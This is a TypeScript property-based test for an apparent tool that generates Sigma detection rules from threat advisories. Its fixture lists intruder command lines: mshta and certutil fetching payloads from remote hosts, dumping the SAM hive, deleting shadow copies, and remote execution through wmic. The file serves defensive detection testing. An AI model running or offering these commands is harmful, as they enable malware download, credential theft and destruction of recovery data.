import { generate, read } from '@tripline/advisory';
import { createMatcher, parseSigma, type SigmaRule } from '@tripline/sigma';
import * as fc from 'fast-check';

/** A line an intruder typed, and the process with that command line. */
const COMMANDS: readonly (readonly [program: string, line: string])[] = [
  ['mshta', 'mshta http://amber-swift.net/stage/amber.hta'],
  ['schtasks', 'schtasks /create /tn AmberUpdate /tr "C:\\ProgramData\\Amber\\a.exe" /sc minute'],
  ['rundll32', 'rundll32.exe C:\\Users\\Public\\amber.dll,Begin --quiet'],
  ['certutil', 'certutil -urlcache -split -f http://45.83.122.17/a.exe C:\\ProgramData\\amber.exe'],
  ['reg', 'reg save HKLM\\SAM C:\\ProgramData\\amber.hiv'],
  ['wmic', 'wmic /node:"10.0.0.5" process call create "cmd /c C:\\ProgramData\\amber.bat"'],
  ['vssadmin', 'vssadmin delete shadows /all /quiet'],
];

/** The ways in which pages print a line: unchanged, defanged, or with typographic dashes and quotes. */
const SHOWN: readonly ((line: string) => string)[] = [
  (line) => line,
  (line) => line.replace('http:', 'hxxp:').replace(/(amber-swift|122)\./, '$1[.]'),
  (line) => line.replace(/(?<= )-{1,2}(?=\w)/g, '–').replace(/"([^"]*)"/g, '“$1”'),
];

it('a rule made from a quoted command matches that command as it was typed, however the page shows it', async () => {
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...COMMANDS), fc.constantFrom(...SHOWN), async ([program, line], show) => {
      const text = `Amber Swift\n\nThe intruders ran this on the server:\n\n    ${show(line)}\n`;
      const { rules } = generate(await read(new TextEncoder().encode(text)), { targets: [] });
      const [made, ...others] = rules.filter(({ yaml }) => yaml.includes('CommandLine|'));
      expect(others).toEqual([]);
      const [rule] = parseSigma(made?.yaml ?? '').documents;
      const event = { Image: `C:\\Windows\\System32\\${program}.exe`, CommandLine: line };
      expect(createMatcher(rule as SigmaRule).matches(event)).toBe(true);
    }),
    { numRuns: 40 },
  );
});
